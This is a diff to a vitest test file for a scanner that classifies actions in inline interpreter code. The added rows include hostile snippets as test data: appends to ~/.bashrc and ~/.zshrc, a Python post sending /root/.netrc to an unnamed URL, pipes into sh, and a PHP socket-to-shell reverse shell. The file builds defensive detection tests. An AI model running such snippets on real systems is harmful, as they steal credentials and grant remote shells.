@@ -5,15 +5,17 @@
  */
 
 import { describe, expect, it } from "vitest";
-import { readCode, type Action, languageOf, MARKER } from "./index.js";
+import { HOME, readCode, type Action, languageOf, MARKER } from "./index.js";
 
 /** One action as a short string: `shell rm -rf ~`, `argv rm|-rf|/`, `rm-r /home`, `opaque`. */
 function brief(a: Action): string {
-  const show = (s: string): string => s.split(MARKER).join("<?>");
-  if (a.kind === "shell") return `shell ${show(a.text)}`;
-  if (a.kind === "argv") return `argv ${a.argv.map(show).join("|")}`;
+  const show = (s: string): string => s.split(MARKER).join("<?>").split(HOME).join("<home>");
+  const fed = "fed" in a && a.fed === true ? "fed " : "";
+  if (a.kind === "shell") return `${fed}shell ${show(a.text)}`;
+  if (a.kind === "argv") return `${fed}argv ${a.argv.map(show).join("|")}`;
   if (a.kind === "delete") return `${a.how} ${show(a.path)}`;
-  return "opaque";
+  if (a.kind === "write" || a.kind === "send") return `${a.kind} ${show(a.path)}`;
+  return a.kind === "reverse-shell" ? "reverse-shell" : "opaque";
 }
 
 type Row = readonly [lang: string, code: string, expected: readonly string[]];
@@ -97,6 +99,17 @@ const TABLE: Row[] = [
   ["awk", `/system\\("x"\\)/ {print "system(1)"}`, []],
   ["awk", `{print $1}`, []],
   ["awk", `{ if ($1 > 0 || $2) print $1 / 2 }`, []],
+  // files written (the home however it is asked for), files read by a program on the network, sockets wired to a shell
+  ["python3", `import os; open(os.path.expanduser("~/.bashrc"), "a")`, ["write <home>/.bashrc"]],
+  ["python3", `open(f"{os.environ['HOME']}/.x", "w"); open("/etc/hosts")`, ["write <home>/.x"]],
+  ["python3", `import requests; requests.post(u, data=open("/root/.netrc").read())`, ["send /root/.netrc"]],
+  ["node", `require("fs").writeFileSync(require("path").join(require("os").homedir(), ".npmrc"), x)`, ["write <home>/.npmrc"]],
+  ["node", "const { appendFileSync } = require('fs'); appendFileSync(`${process.env.HOME}/.zshrc`, x); appendFileSync('log.txt', x)", ["write <home>/.zshrc", "write log.txt"]],
+  ["node", "appendFileSync(`${process.env.HOME}/.zshrc`, x)", []],
+  ["perl", `open(F, ">>$ENV{HOME}/.bashrc"); open(G, "<", $ENV{HOME} . "/.x")`, ["write <home>/.bashrc"]],
+  ["perl", `open(F, "|sh"); open(G, "|-", "sort")`, ["fed shell sh", "fed shell sort"]],
+  ["ruby", `File.open(File.join(Dir.home, ".zshrc"), "a"); IO.popen("sh", "w")`, ["write <home>/.zshrc", "fed shell sh"]],
+  ["php", `$s = fsockopen("h", 1); proc_open("sh", [0 => $s], $p);`, ["shell sh", "reverse-shell"]],
 ];
 
 describe("interpreters: tokenizers and call scanner", () => {
